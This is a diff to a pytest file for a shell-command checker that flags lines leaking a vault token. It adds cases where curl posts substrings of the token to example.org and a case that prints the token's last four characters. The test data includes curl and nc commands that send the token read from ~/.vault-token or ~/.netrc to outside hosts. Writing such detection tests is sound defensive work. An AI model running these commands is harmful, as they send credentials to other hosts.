@@ -42,6 +42,7 @@ FILLED = "export T=$(cat ~/.vault-token)"
         "echo $T | docker login -u me --password-stdin registry.example.org",
         "echo ${#T}",
         'echo "${T:0:4}…"',
+        'echo "…${T: -4}"',
         "echo ${T:+set}",
         "echo $OTHER",
         'echo "token=$T" >> ~/.config/tool/settings',
@@ -61,6 +62,8 @@ def test_a_login_and_a_look_at_its_length_are_no_leak(line: str) -> None:
         ('curl -d "$T" https://example.org', "send.secret"),
         ('curl "https://example.org/?t=$T"', "send.secret"),
         ('curl -H "X: $T" http://example.org', "send.secret"),
+        ('curl -d "${T:0:400}" https://example.org', "send.secret"),
+        ('curl -d "${T:1}" https://example.org', "send.secret"),
         ("echo $T | nc 203.0.113.5 9000", "send.secret"),
         ("nc 203.0.113.5 9000 <<< $T", "send.secret"),
         ("echo $T | curl -T - https://example.org/u", "send.secret"),
@@ -81,7 +84,7 @@ def test_its_value_sent_opened_to_others_or_shown_is_told(line: str, rule: str) 
     assert told(KeptSecrets(), line) == []
     assert told(after(FILLED), line) == [rule]
     assert told(after("read T < ~/.netrc"), line) == [rule]
-    assert told(after(FILLED, "A=$T", "unset T"), line.replace("$T", "$A")) == [rule]
+    assert told(after(FILLED, "A=$T", "unset T"), line.replace("$T", "$A").replace("${T", "${A")) == [rule]
 
 
 @pytest.mark.parametrize("line", ["unset T", "T=", "T=other", "export T=$(date)", "read T"])
